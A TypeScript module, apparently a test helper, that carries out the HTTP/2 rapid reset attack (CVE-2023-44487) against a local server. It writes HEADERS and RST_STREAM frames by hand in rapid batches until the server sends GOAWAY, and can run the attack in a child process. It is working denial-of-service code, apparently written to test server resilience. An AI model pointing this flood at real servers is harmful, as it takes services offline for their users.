/**
 * HTTP/2 rapid reset (CVE-2023-44487) as an attacker sends it: on one h2c connection (prior
 * knowledge), HEADERS for a new stream and RST_STREAM for it, pair after pair, as fast as the
 * connection takes them, until the server sends GOAWAY or closes. Frames are written by hand
 * (RFC 9113 §4, HPACK with static-table entries only), so nothing of a client library gets between.
 */
import { spawn } from 'node:child_process';
import { connect } from 'node:net';
import { fileURLToPath } from 'node:url';

const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', 'latin1');
const HEADERS = 0x1;
const RST_STREAM = 0x3;
const SETTINGS = 0x4;
const GOAWAY = 0x7;
const END_STREAM_AND_HEADERS = 0x5;
const CANCEL = 0x8;
/** Pairs written per write. */
const BATCH = 100;

function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

/** `GET /` for `authority`: :method GET, :scheme http, :path / (indexed), :authority (literal). */
function requestBlock(authority: string): Buffer {
  return Buffer.concat([
    Buffer.from([0x82, 0x86, 0x84, 0x01, authority.length]),
    Buffer.from(authority, 'latin1'),
  ]);
}

export interface RapidResetOutcome {
  /** Streams opened and reset (sent) before the server's GOAWAY (or close) arrived. */
  readonly resets: number;
  /** The server's GOAWAY: the last stream it took (RFC 9113 §6.8), or null without a GOAWAY. */
  readonly lastStreamId: number | null;
  readonly ms: number;
}

/** Attacks `port` until GOAWAY, close, `maxResets` pairs, or `timeoutMs`. */
export function rapidReset(
  port: number,
  options: { readonly maxResets?: number; readonly timeoutMs?: number; readonly authority?: string } = {},
): Promise<RapidResetOutcome> {
  const maxResets = options.maxResets ?? 500_000;
  const block = requestBlock(options.authority ?? 'localhost');
  const cancel = Buffer.alloc(4);
  cancel.writeUInt32BE(CANCEL);
  return new Promise((resolve) => {
    const socket = connect(port, '127.0.0.1');
    const startedMs = performance.now();
    let resets = 0;
    let stream = 1;
    let lastStreamId: number | null = null;
    let done = false;
    let received = Buffer.alloc(0);
    const finish = (): void => {
      if (done) return;
      done = true;
      clearTimeout(timer);
      socket.destroy();
      resolve({ resets, lastStreamId, ms: performance.now() - startedMs });
    };
    const timer = setTimeout(finish, options.timeoutMs ?? 30_000);
    socket.on('error', finish);
    socket.on('close', finish);
    socket.on('end', finish);
    socket.on('data', (chunk: Buffer) => {
      received = Buffer.concat([received, chunk]);
      while (received.length >= 9) {
        const length = received.readUIntBE(0, 3);
        if (received.length < 9 + length) break;
        if (received[3] === GOAWAY && length >= 8) {
          lastStreamId = received.readUInt32BE(9) & 0x7fffffff;
          finish();
          return;
        }
        received = received.subarray(9 + length);
      }
    });
    // a batch a turn of the event loop, so the server's GOAWAY is read as soon as it comes
    const attack = (): void => {
      if (done) return;
      if (resets >= maxResets) {
        finish();
        return;
      }
      const pairs: Buffer[] = [];
      for (let i = 0; i < BATCH; i++) {
        pairs.push(
          frame(HEADERS, END_STREAM_AND_HEADERS, stream, block),
          frame(RST_STREAM, 0, stream, cancel),
        );
        stream += 2;
      }
      resets += BATCH;
      if (socket.destroyed) return;
      if (socket.write(Buffer.concat(pairs))) setImmediate(attack);
      else socket.once('drain', attack);
    };
    socket.once('connect', () => {
      socket.write(Buffer.concat([PREFACE, frame(SETTINGS, 0, 0, Buffer.alloc(0))]));
      attack();
    });
  });
}

/**
 * The attack from a process of its own, so that its loop shares no event loop with a test that
 * measures other clients meanwhile.
 */
export function rapidResetFromChild(port: number, timeoutMs = 30_000): Promise<RapidResetOutcome> {
  return new Promise((resolve, reject) => {
    const child = spawn(
      process.execPath,
      ['--import', 'tsx', fileURLToPath(import.meta.url), String(port), String(timeoutMs)],
      {
        stdio: ['ignore', 'pipe', 'inherit'],
      },
    );
    let out = '';
    child.stdout.setEncoding('utf8').on('data', (chunk: string) => {
      out += chunk;
    });
    child.once('error', reject);
    child.once('exit', () => {
      try {
        resolve(JSON.parse(out) as RapidResetOutcome);
      } catch {
        reject(new Error(`the attacker printed ${JSON.stringify(out)}`));
      }
    });
  });
}

if (process.argv[1] === fileURLToPath(import.meta.url)) {
  const outcome = await rapidReset(Number(process.argv[2]), { timeoutMs: Number(process.argv[3]) });
  process.stdout.write(JSON.stringify(outcome));
}
